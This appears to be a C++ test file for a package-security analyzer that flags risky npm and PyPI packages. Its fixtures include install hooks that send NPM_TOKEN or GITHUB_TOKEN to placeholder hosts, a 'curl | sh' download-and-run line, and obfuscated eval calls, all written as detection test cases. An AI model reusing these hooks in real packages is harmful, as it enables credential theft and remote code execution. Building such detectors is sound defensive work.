// End-to-end behaviour of the Analyzer on small in-memory packages.
#include <catch2/catch.hpp>

#include <algorithm>

#include "analyzer/engine/analyzer.h"
#include "tests/support/engine_samples.h"

using namespace tarsier;
using test::has;
using test::sample_ref;
using test::shared_analyzer;

namespace {

const Finding* find(const PackageAnalysis& a, const std::string& rule,
                    const std::string& file = "") {
  for (const auto& f : a.findings) {
    if (f.rule == rule && (file.empty() || f.file == file))
      return &f;
  }
  return nullptr;
}

}  // namespace

TEST_CASE("install-time exfiltration is critical", "[engine]") {
  std::vector<ArchiveEntry> files = {
      {"package.json",
       R"({"name":"x","version":"1.0.0","scripts":{"postinstall":"node lib/setup.js"}})"},
      {"lib/setup.js", "const send = require('./send');\nsend(process.env.NPM_TOKEN);\n"},
      {"lib/send.js",
       "const https = require('https');\nmodule.exports = (t) => https.request({host: "
       "'collect.example.invalid', path: '/?t=' + t}).end();\n"},
  };
  auto a = shared_analyzer().analyze(sample_ref("x"), files, {});
  CHECK(a.risk == Risk::critical);
  CHECK(has(a.threats, "exfiltration"));
  CHECK(has(a.capabilities, "install-scripts"));
  CHECK(has(a.capabilities, "network"));
  CHECK(has(a.capabilities, "env"));
  const Finding* script = find(a, "npm-install-script");
  REQUIRE(script != nullptr);
  CHECK(script->file == "package.json");
  CHECK(script->line == 1);
  CHECK(script->snippet == "node lib/setup.js");
  CHECK(script->install_time);
  // Reached through the relative require of the script's file.
  const Finding* net = find(a, "js-network-module", "lib/send.js");
  REQUIRE(net != nullptr);
  CHECK(net->install_time);
  CHECK(net->line == 1);
  CHECK(net->column == 15);
  CHECK(net->snippet == "const https = require('https');");
}

TEST_CASE("plain capabilities stay at or below medium", "[engine]") {
  SECTION("an HTTP client") {
    std::vector<ArchiveEntry> files = {
        {"package.json", R"({"name":"client","version":"1.0.0","main":"index.js"})"},
        {"index.js",
         "const https = require('https');\nexports.get = (u) => new Promise((ok) => https.get(u, "
         "ok));\nconst proxy = process.env.HTTPS_PROXY;\n"},
    };
    auto a = shared_analyzer().analyze(sample_ref("client-lib-x"), files, {});
    CHECK(a.risk <= Risk::low);
    CHECK(a.threats.empty());
    CHECK(has(a.capabilities, "network"));
  }
  SECTION("a CLI spawning git") {
    std::vector<ArchiveEntry> files = {
        {"package.json", R"({"name":"gitcli","version":"1.0.0","bin":"cli.js"})"},
        {"cli.js",
         "#!/usr/bin/env node\nconst { spawnSync } = require('child_process');\n"
         "spawnSync('git', ['status'], { stdio: 'inherit' });\n"},
    };
    auto a = shared_analyzer().analyze(sample_ref("gitcli-x"), files, {});
    CHECK(a.risk <= Risk::low);
    CHECK(has(a.capabilities, "shell"));
  }
  SECTION("a native addon built by node-gyp") {
    std::vector<ArchiveEntry> files = {
        {"package.json", R"({"name":"addon","version":"1.0.0","gypfile":true})"},
        {"binding.gyp",
         "{ 'targets': [ { 'target_name': 'addon', 'sources': ['a.cc'], "
         "'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"] } ] }"},
        {"index.js", "module.exports = require('./build/Release/addon.node');\n"},
    };
    auto a = shared_analyzer().analyze(sample_ref("addon-x"), files, {});
    CHECK(a.risk <= Risk::low);
    const Finding* implicit = find(a, "npm-install-script");
    REQUIRE(implicit != nullptr);
    CHECK(implicit->snippet == "node-gyp rebuild");
    CHECK(find(a, "gyp-command-expansion") != nullptr);
  }
}

TEST_CASE("findings passed in count for the risk", "[engine]") {
  Finding mismatch;
  mismatch.rule = "integrity-mismatch";
  mismatch.capability = "integrity";
  mismatch.severity = Risk::critical;
  auto a = shared_analyzer().analyze(sample_ref("plain-x"), {{"index.js", "module.exports = 1;\n"}},
                                     {mismatch});
  CHECK(a.risk == Risk::critical);
  CHECK(find(a, "integrity-mismatch") != nullptr);
  CHECK(has(a.capabilities, "integrity"));
}

TEST_CASE("oversized files and binaries are reported, not parsed", "[engine]") {
  AnalyzerOptions options;
  options.max_file_bytes = 100;
  auto small = test::new_analyzer(options);
  std::vector<ArchiveEntry> files = {
      {"big.js", std::string(200, ' ') + "eval(x)"},
      {"prebuilds/x.node", std::string("\x7f"
                                       "ELF\x02\x01\x01",
                                       7) +
                               std::string(64, '\0')},
  };
  auto a = small->analyze(sample_ref("bin-x"), files, {});
  const Finding* skipped = find(a, "analysis-skipped", "big.js");
  REQUIRE(skipped != nullptr);
  CHECK(skipped->message.find("over the 100-byte limit") != std::string::npos);
  CHECK(find(a, "js-eval") == nullptr);
  CHECK(find(a, "native-binary", "prebuilds/x.node") != nullptr);
  CHECK(has(a.capabilities, "native-code"));
}

TEST_CASE("typosquat names are flagged, worse with an install script", "[engine]") {
  auto plain =
      shared_analyzer().analyze(sample_ref("lodahs"), {{"index.js", "module.exports = 1;\n"}}, {});
  const Finding* t = find(plain, "typosquat");
  REQUIRE(t != nullptr);
  CHECK(t->message.find("'lodash'") != std::string::npos);
  CHECK(plain.risk == Risk::medium);
  auto with_script = shared_analyzer().analyze(
      sample_ref("crossenv"),
      {{"package.json", R"({"scripts":{"postinstall":"node setup.js"}})"}, {"setup.js", "1;\n"}},
      {});
  CHECK(has(with_script.threats, "typosquat-install"));
  CHECK(with_script.risk >= Risk::high);
  CHECK(find(shared_analyzer().analyze(sample_ref("lodash"), {}, {}), "typosquat") == nullptr);
}

TEST_CASE("a .txt file run by an install script is analysed as JavaScript", "[engine]") {
  std::vector<ArchiveEntry> files = {
      {"package.json", R"({"scripts":{"preinstall":"node data/words.txt"}})"},
      {"data/words.txt",
       "require('child_process').exec('curl -s https://x.example.invalid/a | sh')\n"},
  };
  auto a = shared_analyzer().analyze(sample_ref("words-x"), files, {});
  const Finding* cp = find(a, "js-child-process", "data/words.txt");
  REQUIRE(cp != nullptr);
  CHECK(cp->install_time);
  CHECK(has(a.threats, "pipe-to-shell"));
  CHECK(a.risk == Risk::critical);
}

TEST_CASE("full-parse mode finds the same as the pre-filtered mode", "[engine]") {
  std::vector<ArchiveEntry> files = {
      {"a.js", "const x = require('chi' + 'ld_process');\n"},
      {"b.js", "module.exports = function add(a, b) { return a + b; };\n"},
      {"c.js", "const m = ['ev', 'al'].join('');\nglobalThis[m]('1');\n"},
  };
  auto normal = shared_analyzer(false).analyze(sample_ref("modes-x"), files, {});
  auto full = shared_analyzer(true).analyze(sample_ref("modes-x"), files, {});
  REQUIRE(normal.findings.size() == full.findings.size());
  for (size_t i = 0; i < normal.findings.size(); ++i) {
    CHECK(normal.findings[i].rule == full.findings[i].rule);
    CHECK(normal.findings[i].line == full.findings[i].line);
  }
  CHECK(full.parsed_files == 3);
  CHECK(normal.parsed_files == 2);  // b.js has nothing a rule could match
}

TEST_CASE("setup.cfg command classes run at install", "[engine]") {
  std::string hook =
      "import os, urllib.request\n"
      "from setuptools.command.install import install\n"
      "class Install(install):\n"
      "    def run(self):\n"
      "        urllib.request.urlopen('https://c2.example.invalid/?t=' + "
      "os.environ['GITHUB_TOKEN'])\n";
  std::string cfg =
      "[metadata]\nname = cfg-x\n\n[options]\npackages = find:\ncmdclass =\n"
      "    install = cfgx.hooks:Install\n    build_py = cfgx.build.BuildPy\n\n"
      "[options.entry_points]\nconsole_scripts =\n    other = cfgx.cli:main\n";
  PackageRef r = sample_ref("cfg-x");
  r.ecosystem = "pypi";
  SECTION("a cmdclass module is an install hook") {
    auto a = shared_analyzer().analyze(
        r, {{"setup.cfg", cfg}, {"src/cfgx/hooks.py", hook}, {"cfgx/build/__init__.py", hook}}, {});
    for (const char* file : {"src/cfgx/hooks.py", "cfgx/build/__init__.py"}) {
      INFO(file);
      const Finding* env = find(a, "sensitive-env-name", file);
      REQUIRE(env != nullptr);
      CHECK(env->install_time);
    }
    CHECK(has(a.threats, "exfiltration"));
    CHECK(a.risk == Risk::critical);
  }
  SECTION("an entry point is not") {
    auto a = shared_analyzer().analyze(r, {{"setup.cfg", cfg}, {"cfgx/cli.py", hook}}, {});
    const Finding* env = find(a, "sensitive-env-name", "cfgx/cli.py");
    REQUIRE(env != nullptr);
    CHECK_FALSE(env->install_time);
    CHECK(a.risk < Risk::critical);
  }
}

TEST_CASE("prepare runs at install only for git and folder installs", "[engine]") {
  std::vector<ArchiveEntry> files = {
      {"package.json", R"({"name": "p", "version": "1.0.0", "scripts": {"prepare": "node b.js"}})"},
      {"b.js",
       "const https = require('https');\n"
       "https.get('https://collect.example.invalid/?t=' + process.env.NPM_TOKEN);\n"}};
  PackageRef registry = sample_ref("p");
  auto archive = shared_analyzer().analyze(registry, files, {});
  CHECK(find(archive, "npm-install-script") == nullptr);  // npm does not run it from the registry
  for (const auto& f : archive.findings) {
    CHECK_FALSE(f.install_time);
  }
  PackageRef git = sample_ref("p");
  git.source = "git";
  auto cloned = shared_analyzer().analyze(git, files, {});
  const Finding* script = find(cloned, "npm-install-script");
  REQUIRE(script != nullptr);
  CHECK(script->install_time);
  CHECK(cloned.risk == Risk::critical);
  CHECK(archive.risk < cloned.risk);
}
